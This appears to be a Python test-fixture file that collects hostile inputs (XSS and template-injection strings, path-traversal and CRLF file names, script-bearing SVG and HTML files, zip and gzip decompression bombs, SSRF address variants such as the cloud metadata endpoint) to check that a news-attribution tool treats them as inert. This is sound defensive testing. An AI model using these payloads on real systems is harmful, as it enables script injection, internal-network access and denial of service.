"""What attackers send: words, file names, files, addresses. None of it may do anything."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Mapping
from dataclasses import replace

from tests.readings import actor, reading, says, span
from whosays.model import EntityType, LinkKind, Metadata, Reading, Resolved

WORDS = (
    "<script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</title></style></script><script>window.hit=1</script>",
    '"><img src=x onerror=window.hit=1>',
    "'><svg onload=window.hit=1>",
    '" autofocus onfocus="window.hit=1',
    "javascript:window.hit=1",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>Keep</button></form>",
    "<style>*{display:none}</style>",
    "<math><mi//xlink:href='data:x,<script>window.hit=1</script>'>",
    "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u202egpj.tpircs<script>\u2066",
    "<a href='https://evil.example/' ping='https://evil.example/'>x</a>",
    "<!-- --><!--><script>window.hit=1</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    '=HYPERLINK("https://evil.example/")',
    "<img src=x onerror=alert(1)//",
    '"><a href="java\tscript:alert(1)" autofocus>x</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<script type=module src=https://evil.example/x.js></script>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<input type=hidden name=form value=stolen form=x>",
    "${alert(1)} {{ self.__init__.__globals__ }} {%- include 'x' -%} <%= 1337*1337 %> {{ 1337*1337 }}",
    "\"onmouseover=alert(1) style=animation-name:x onanimationstart=alert(1) '",
    "</a></li></ul></main></body></html><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    '{"__proto__": {"hit": 1}}',
    "\u2028\u2029<script>alert(1)</script>\ufeff\u0000"[:-1],
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
)
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/'onclick='alert(1)",
    'https://evil.example/"><script>alert(1)</script>',
    "//evil.example/",
    'https://evil.example/" onclick="alert(1)',
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PAGE = (
    b"<html><head><title>Pier</title><script>alert(1)</script><base href=https://evil.example/></head>"
    b"<body onload=alert(1)><article><p>The pier is shut, Ines Okoro said on Monday. She said it leaks, and "
    b"that boats were moved.</p><img src=https://evil.example/p.png onerror=alert(1)></article></body></html>"
)
FILES: Mapping[str, bytes] = {
    "../../../../tmp/whosays-escaped.txt": b"Okoro said the pier is shut.",
    "/etc/passwd": b"Okoro said the pier leaks.",
    "..\\..\\windows\\x.txt": b"Okoro said the pier is open.",
    "nul\x00.txt": b"Okoro said nothing of it.",
    '"><img src=x onerror=alert(1)>.txt': b"Okoro said a crane fell.",
    "a\r\nSet-Cookie: stolen=1.txt": b"Okoro said two cranes fell.",
    "picture.svg": SVG,
    "picture.png": SVG,
    "page.html": PAGE,
    "text.txt": PAGE,
    "javascript:alert(1)": b"Okoro said no crane fell.",
    "x" * 5000 + ".txt": b"Okoro said it is long.",
    ".htaccess": b"Okoro said it is hidden.",
}


def docx_bomb() -> bytes:
    """A Word document of a few kilobytes that unpacks to 200 MB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:p>" + b"a" * 200_000_000)
    return made.getvalue()


def warc_bomb() -> bytes:
    """A web archive that unpacks to 200 MB."""
    return gzip.compress(b"WARC/1.0\r\n" + b"a" * 200_000_000, 9)


# Addresses that lead to this machine, or to what only it can reach; {port} is where somebody listens.
PRIVATE = (
    "http://127.0.0.1:{port}/",
    "http://127.1:{port}/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://0x7f.0.0.1:{port}/",
    "http://0177.0.0.1:{port}/",
    "http://017700000001:{port}/",
    "http://0.0.0.0:{port}/",
    "http://0:{port}/",
    "http://localhost:{port}/",
    "http://LOCALHOST.:{port}/",
    "http://ip6-localhost:{port}/",
    "http://[::1]:{port}/",
    "http://[::]:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://[::ffff:7f00:1]:{port}/",
    "http://[64:ff9b::7f00:1]:{port}/",
    "http://[2002:7f00:1::]:{port}/",
    "http://127.0.0.1.:{port}/",
    "http://①②⑦.⓪.⓪.①:{port}/",
    "http://127。0。0。1:{port}/",
    "http://127.0.0.1:{port}#@evil.example/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fe80::1]/",
    "http://[fd00::1]/",
    "http://10.0.0.1/",
    "http://192.168.1.1/",
    "http://172.16.0.1/",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://evil.example:99999/",
)
NO_WEB = (
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "ftp://127.0.0.1/",
    "dict://127.0.0.1:11211/stat",
    "javascript:alert(1)",
    "data:text/html,x",
    "//127.0.0.1/",
    "http://",
    "http:///etc/passwd",
    "http://user:password@evil.example/",
    "http://evil.example@127.0.0.1:80/",
)


def account_of(words: str, number: int) -> Reading:
    """An account in which these words stand wherever an account has words, and a web address can be put."""
    inert = words.replace("\r", " ").replace("\n", " ")
    text = f"{inert}\n\n{inert} said {inert} on Monday, number {number}.\n"
    at = text.index("\n\n") + 2
    source, said = span(text, inert, at), span(text, inert, at + len(inert) + 1)
    who = actor(inert, (source, LinkKind.NAME), roles=[inert])
    one = says(text, inert, "said", inert, actor=Resolved(who, LinkKind.NAME), after=at)
    one = replace(one, source=source, content=(said,))
    made = reading(text, [one], [(inert, EntityType.PER)], actors=[who], path=inert)
    told = Metadata(inert, inert, (inert, inert), "2031-02-14", URLS[number % len(URLS)])
    return replace(made, account=replace(made.account, metadata=told))
